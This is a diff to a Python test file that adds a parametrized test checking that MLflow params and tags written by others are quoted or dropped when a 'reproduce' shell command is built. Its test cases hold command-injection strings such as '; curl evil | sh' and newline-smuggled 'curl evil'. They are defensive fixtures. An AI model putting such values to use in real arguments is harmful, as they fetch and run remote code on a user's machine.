@@ -2,6 +2,8 @@ from __future__ import annotations
 
 from dataclasses import replace
 
+import pytest
+
 from cifar_core.data.data_set import CIFAR10
 from experiments.decision.commands import reproduce, serve
 from experiments.decision.facts import Facts
@@ -48,3 +50,23 @@ def test_commands_name_epochs_and_a_scenario_of_ones_own(demo: Facts) -> None:
     assert run == f"python sweeps/run_study.py {own_images}"
     [run, _] = reproduce(replace(own, tags={"places": "--labels FILE --storage URL"}), demo.scenario).splitlines()
     assert run == f"python sweeps/run_study.py {own_images} --labels FILE --storage URL"
+
+
+@pytest.mark.parametrize(
+    ("params", "tags", "options"),
+    [
+        ({}, {"places": "--labels FILE; curl evil | sh"}, "--labels FILE"),
+        ({"enqueue": "five_conv; curl 'evil' | sh"}, {}, "--enqueue 'five_conv;' curl evil '|' sh"),
+        ({"enqueue": "five_conv --notify 'curl evil | sh'"}, {}, ""),
+        ({"enqueue": "five_conv 'open"}, {}, ""),
+        ({"enqueue": "five_conv\ncurl evil"}, {}, ""),
+        ({"space": "x\ncurl evil | sh #", "space_hash": "a"}, {}, ""),
+        ({"from": "x; curl evil"}, {}, "--from 'x; curl evil'"),
+    ],
+)
+def test_what_others_wrote_into_mlflow_is_no_command(
+    demo: Facts, params: dict[str, str], tags: dict[str, str], options: str
+) -> None:
+    study = replace(demo.study, name="mine", params=params, tags=tags, in_default_store=True)
+    run, _ = reproduce(study, demo.scenario).splitlines()
+    assert run == f"python sweeps/run_study.py --study mine {options}".rstrip()
